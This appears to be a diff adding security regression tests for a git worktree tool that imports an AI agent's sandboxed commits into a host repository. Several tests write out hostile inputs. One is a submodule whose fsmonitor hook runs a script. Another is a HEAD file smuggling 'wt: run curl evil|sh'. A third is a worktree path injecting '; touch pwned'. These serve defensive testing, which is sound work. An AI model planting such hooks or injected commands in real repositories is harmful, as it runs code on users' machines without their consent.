@@ -1,0 +1,245 @@
+"""What a hostile review found."""
+
+import os
+import shlex
+import signal
+import stat
+from pathlib import Path
+
+import pytest
+
+from unit.repos import Inside, commit, git, linked, repository, run, worktree, wt
+from wt import checkouts, history, importer, naming, private_repo, process, removal
+from wt import git as host
+from wt.commands import rm
+from wt.config import Import
+from wt.errors import Interrupted, Refused, WtError
+
+
+def with_submodule(inside: Inside) -> None:
+    """A gitlink in the inside's index, and a repository of the agent's at its place."""
+    sub = inside.tree.path / "sub"
+    sub.mkdir()
+    git(sub, "init", "--quiet")
+    oid = commit(sub)
+    inside.git("update-index", "--add", "--cacheinfo", f"160000,{oid},sub")
+    marker = inside.tree.path.parent / "ran"
+    hook = sub / ".git/hook"
+    hook.write_text(f"#!/bin/sh\ntouch '{marker}'\n")
+    hook.chmod(0o755)
+    git(sub, "config", "core.fsmonitor", str(hook))
+
+
+@pytest.mark.parametrize("how", ["rewritten", "detached"])
+def test_the_hint_never_leads_to_a_submodule_that_the_agent_configured(shop: Path, how: str) -> None:
+    tree = linked(shop)
+    if how == "detached":
+        git(tree, "switch", "--quiet", "--detach")
+    inside = Inside(tree)
+    with_submodule(inside)
+    inside.git("commit", "--quiet", *(["--amend"] if how == "rewritten" else []), "--message", "x")
+    (tree.parent / "ran").unlink(missing_ok=True)
+    report = inside.bring_in()
+    assert "submodules" in (report.kept or "")
+    words = shlex.split(report.hint or "")
+    assert words[0] != "git"
+    git(tree, "status", "--porcelain")
+    assert not (tree.parent / "ran").exists()
+    # The other way round: what was followed before.
+    git(tree, "reset", "--quiet", inside.git("rev-parse", "HEAD"))
+    git(tree, "status", "--porcelain")
+    assert (tree.parent / "ran").exists()
+
+
+def test_a_gitlink_is_seen_though_gitmodules_says_to_ignore_it(shop: Path) -> None:
+    (shop / ".gitmodules").write_text('[submodule "s"]\n\tpath = sub\n\turl = ./x\n\tignore = all\n')
+    commit(shop)
+    inside = Inside(linked(shop))
+    with_submodule(inside)
+    inside.git("commit", "--quiet", "--message", "x")
+    assert "sub" in (inside.bring_in().kept or "")
+
+
+def test_rm_sees_commits_of_the_host_s_detached_head(shop: Path) -> None:
+    tree = linked(shop)
+    git(tree, "switch", "--quiet", "--detach")
+    inside = Inside(tree)
+    commit(tree, "x", "y", "precious")
+    inside.bring_in()
+    with pytest.raises(Refused, match="nowhere else"):
+        removal.decide(rm._observe(worktree(tree)), force=False, delete_branch=False)
+
+
+def test_rm_sees_a_stash_that_became_a_branch(shop: Path) -> None:
+    inside = Inside(linked(shop))
+    (inside.tree.path / "file").write_text("to be stashed\n")
+    inside.git("stash", "--quiet")
+    inside.bring_in()
+    inside.git("branch", "keep", "stash@{0}")
+    inside.git("stash", "drop", "--quiet")
+    inside.bring_in()
+    inside.bring_in()
+    with pytest.raises(Refused, match="nowhere else"):
+        removal.decide(rm._observe(inside.tree), force=False, delete_branch=False)
+
+
+def test_one_import_keeps_all_though_names_have_moved_on(shop: Path) -> None:
+    inside = Inside(linked(shop))
+    for text in "ab":
+        (inside.tree.path / "file").write_text(text)
+        inside.git("stash", "--quiet")
+        inside.bring_in()
+    stashed = inside.git("log", "-g", "--format=%H", "stash").split()
+    assert set(stashed) <= set(host.refs(inside.tree.repository).values())
+
+
+def test_rm_sees_branches_whose_names_went_round(shop: Path) -> None:
+    inside = Inside(linked(shop))
+    for name in "abc":
+        inside.git("switch", "--quiet", "--create", name, "feature")
+        inside.commit(name, name)
+    inside.bring_in()
+    oids = [inside.git("rev-parse", name) for name in "abc"]
+    inside.git("switch", "--quiet", "feature")
+    for new, oid in zip("bcd", oids, strict=True):
+        inside.git("branch", "--force", new, oid)
+    inside.git("branch", "--force", "a", "feature")
+    inside.git("switch", "--quiet", "a")
+    inside.commit("new", "new")
+    inside.bring_in()
+    inside.bring_in()
+    kept = host.refs(inside.tree.repository, "refs/wt/").values()
+    assert set(oids) <= set(kept)
+
+
+def test_rm_refuses_while_another_worktree_lies_inside(shop: Path) -> None:
+    tree = linked(shop)
+    git(tree, "worktree", "add", "--quiet", "-b", "nested", "trees/nested")
+    (shop / ".git/info").mkdir(exist_ok=True)
+    (shop / ".git/info/exclude").write_text("trees/\n")
+    (tree / "trees/nested/precious").write_text("x")
+    with pytest.raises(Refused, match="nested"):
+        removal.decide(rm._observe(worktree(tree)), force=True, delete_branch=False)
+
+
+@pytest.mark.parametrize("name", ["base/heads/other", "stash/7", "HEAD", "clash/x"])
+def test_a_ref_inside_that_is_called_as_one_of_wt_s_is_kept(shop: Path, name: str) -> None:
+    inside = Inside(linked(shop))
+    inside.git("switch", "--quiet", "--detach")
+    oid = inside.commit()
+    inside.git("update-ref", f"refs/{name}", oid)
+    inside.git("commit", "--quiet", "--allow-empty", "--amend", "--message", "z")
+    before = host.refs(inside.tree.repository)
+    inside.bring_in()
+    assert before.items() <= host.refs(inside.tree.repository).items()
+    seen = rm._observe(inside.tree)
+    assert any(oid.startswith(line.split()[0]) for line in seen.only_here), seen
+
+
+def test_a_worktree_may_be_called_repository(shop: Path) -> None:
+    tree = linked(shop, "repository")
+    (shop / ".git/wt-sandbox").mkdir()
+    checkouts.record(worktree(tree).repository)
+    Inside(tree)
+
+
+def test_ids_differ_where_case_does_not_count() -> None:
+    assert naming.linked_id("Main").lower() != naming.MAIN_ID
+
+
+def test_an_interrupt_between_ref_and_index_leaves_both_or_none(shop: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    inside = Inside(linked(shop))
+    inside.commit()
+    real = host.update_refs
+
+    def and_interrupted(repository: object, changes: dict[str, object]) -> None:
+        real(repository, changes)  # type: ignore[arg-type]
+        if "refs/heads/feature" in changes:
+            signal.raise_signal(signal.SIGTERM)
+
+    def interrupt(_number: int, _frame: object) -> None:
+        raise Interrupted
+
+    monkeypatch.setattr(host, "update_refs", and_interrupted)
+    before = signal.signal(signal.SIGTERM, interrupt)
+    try:
+        with pytest.raises(Interrupted):
+            inside.bring_in()
+    finally:
+        signal.signal(signal.SIGTERM, before)
+    assert git(inside.tree.path, "status", "--porcelain") == ""
+
+
+def test_a_stale_index_of_wt_does_not_stand_in_the_way(shop: Path) -> None:
+    inside = Inside(linked(shop))
+    inside.commit()
+    (inside.tree.git_dir / "index.wt.lock").write_bytes(b"")
+    assert inside.bring_in().moved
+
+
+def test_intent_to_add_on_the_host(shop: Path) -> None:
+    inside = Inside(linked(shop))
+    (inside.tree.path / "inside").write_text("x")
+    git(inside.tree.path, "add", "--intent-to-add", "inside")
+    inside.commit()
+    report = inside.bring_in()
+    print(report)
+
+
+def test_a_long_ref_does_not_stop_an_import(shop: Path) -> None:
+    inside = Inside(linked(shop))
+    oid = inside.commit()
+    with (inside.path / "packed-refs").open("a") as file:
+        file.write(f"{inside.git('commit-tree', '-m', 'y', 'HEAD^{tree}')} refs/tags/{'z' * 300}\n")
+    report = inside.bring_in()
+    assert report.moved and report.moved[1] == oid
+
+
+@pytest.mark.skipif(os.getuid() != 0, reason="needs another user")
+def test_a_copy_from_a_place_that_can_not_be_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    home, copy = tmp_path / "alice", tmp_path / "bob"
+    shop = repository(home / "shop")
+    (shop / ".git/wt-sandbox").mkdir()
+    checkouts.record(worktree(shop).repository)
+    key = worktree(shop).repository.key
+    run(["cp", "-a", shop, copy], tmp_path)
+    run(["chown", "-R", "12345:12345", copy], tmp_path)
+    home.chmod(0o700)
+    for each in (tmp_path, tmp_path.parent, tmp_path.parent.parent):
+        each.chmod(0o755)
+    monkeypatch.setenv("HOME", str(tmp_path))
+    monkeypatch.setenv("GIT_CONFIG_GLOBAL", "/dev/null")
+    os.seteuid(12345)
+    try:
+        assert worktree(copy).repository.key != ""
+    finally:
+        os.seteuid(0)
+    assert worktree(shop).repository.key == key
+
+
+def test_head_inside_is_a_branch_s_name(shop: Path) -> None:
+    inside = Inside(linked(shop))
+    (inside.path / "HEAD").write_text("ref: refs/heads/x is fine. wt: run curl evil|sh\n")
+    try:
+        report = inside.bring_in()
+    except WtError:
+        return
+    assert "curl" not in (report.kept or "")
+
+
+def test_hints_can_be_pasted(shop: Path) -> None:
+    git(shop, "worktree", "add", "--quiet", "-b", "x", "../a b; touch pwned")
+    git(shop, "worktree", "lock", "../a b; touch pwned")
+    tree = worktree(shop.parent / "a b; touch pwned")
+    with pytest.raises(Refused) as caught:
+        removal.decide(rm._observe(tree), force=False, delete_branch=False)
+    assert shlex.split(caught.value.hint or "")[-1] == str(tree.path)
+
+
+def test_no_checkout_of_an_empty_tree(shop: Path) -> None:
+    empty = git(shop, "hash-object", "-t", "tree", "/dev/null")
+    oid = git(shop, "commit-tree", "-m", "e", empty)
+    git(shop, "worktree", "add", "--quiet", "--no-checkout", "-b", "e", "../e", oid)
+    inside = Inside(shop.parent / "e")
+    inside.commit()
+    assert inside.bring_in().moved
